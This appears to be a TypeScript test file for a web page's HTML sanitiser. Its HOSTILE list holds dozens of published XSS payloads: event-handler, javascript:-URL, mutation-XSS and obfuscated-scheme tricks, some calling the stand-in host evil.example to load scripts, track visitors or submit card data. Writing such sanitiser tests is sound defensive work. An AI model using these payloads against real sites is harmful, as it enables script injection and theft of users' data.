import { describe, expect, test } from 'vitest';
import { firstPicture, sanitiseContent, summaryOf } from './sanitise-content.ts';

const PICTURE = '/files/0199aaaa-0000-7000-8000-000000000002';

describe('content of a page', () => {
  test('keeps text, headings, lists, links and pictures of our own', () => {
    const content = [
      '<h2>Menu Raya</h2><p>Kuih <strong>lapis</strong> &amp; <em>kek</em><br />segar</p>',
      '<ul><li><p>Pandan</p></li></ul><ol><li>Coklat</li></ol><blockquote>Sedap</blockquote><hr />',
      `<img src="${PICTURE}" alt="Kuih" />`,
      '<p><a href="https://kuih.example" rel="nofollow noopener noreferrer">Peta</a></p>',
    ].join('');
    expect(sanitiseContent(content)).toBe(content);
  });

  test('an h1 becomes an h2, and a link gets its rel', () => {
    expect(sanitiseContent('<h1>Menu</h1><a target="_blank" rel="opener" href="/pay/bill/1">Bayar</a>')).toBe(
      '<h2>Menu</h2><a href="/pay/bill/1" rel="nofollow noopener noreferrer">Bayar</a>',
    );
  });
});

/** Attacks as they are published: each must leave nothing that a browser runs, loads or styles. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${PICTURE}" onerror="alert(1)" style="position:fixed" class="x" id="y">`,
  `<img src="${PICTURE}/../../x" alt="">`,
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img src="https://evil.example/track.gif">',
  '<img srcset="https://evil.example/a 2x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p onclick=alert(1) onpointerenter="alert(1)">x</p>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=card><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<p title="&lt;script&gt;">&lt;img src=x onerror=alert(1)&gt;</p>',
  '<div id="island-props">{"x":1}</div><p id=location>x</p>',
  '"><img src=x onerror=alert(1)>',
  `${'<blockquote>'.repeat(500)}x`,
];

const ELEMENTS = new Set('h2 h3 p br strong em u s ul ol li blockquote hr a img'.split(' '));
/** The only attributes, with the values that they may have. */
const ATTRIBUTES: Record<string, RegExp> = {
  href: /^(?:https?:\/\/|mailto:|tel:|\/(?![/\\\s])|#|x)/,
  rel: /^nofollow noopener noreferrer$/,
  src: /^\/files\/[0-9a-f-]{36}$/,
  alt: /^[^<>"]*$/,
};

/** What of HTML is not allowed, found by a reading of its own: tags by `<name`, attributes by `name="value"`. */
function forbiddenIn(html: string): string[] {
  const tags = [...html.matchAll(/<(\/?)([^\s/>]*)((?:\s+[^\s=>]+="[^"]*")*)\s*\/?>/g)];
  const rest = tags.reduce((text, [tag]) => text.replace(tag, ''), html);
  const attributes = tags.flatMap(([, , , written = '']) => [...written.matchAll(/([^\s=]+)="([^"]*)"/g)]);
  return [
    ...tags.map(([, , name = '']) => name).filter((name) => !ELEMENTS.has(name)),
    ...attributes.filter(([, name = '', value = '']) => !ATTRIBUTES[name]?.test(value)).map(([one]) => one),
    ...(/[<>]/.test(rest) ? [rest] : []),
  ];
}

describe('hostile content', () => {
  test.each(HOSTILE)('%s', (html) => {
    const clean = sanitiseContent(html);
    expect(forbiddenIn(clean)).toEqual([]);
    expect(sanitiseContent(clean)).toBe(clean);
  });

  test('stays harmless inside other content, and in any order', () => {
    const all = sanitiseContent(`<p>${HOSTILE.join('</p><p>')}</p>${HOSTILE.toReversed().join('')}`);
    expect(forbiddenIn(all)).toEqual([]);
  });

  test('the check itself finds what is forbidden', () => {
    for (const html of ['<script>x</script>', '<p style="x">y</p>', '<a href="javascript:x">y</a>', '<img src=x>'])
      expect(forbiddenIn(html)).not.toEqual([]);
  });
});

test('the summary is plain text of limited length', () => {
  expect(summaryOf('<h2>Menu</h2><p>Kuih &amp; kek &lt;3<br />segar</p>')).toBe('Menu Kuih & kek <3 segar');
  expect(summaryOf(`<p>${'kuih '.repeat(60)}</p>`)).toHaveLength(160);
});

test('the first picture is found', () => {
  expect(firstPicture(`<p>x</p><img src="${PICTURE}" alt="" /><img src="/other" />`)).toBe(PICTURE);
  expect(firstPicture('<p>x</p>')).toBeNull();
});
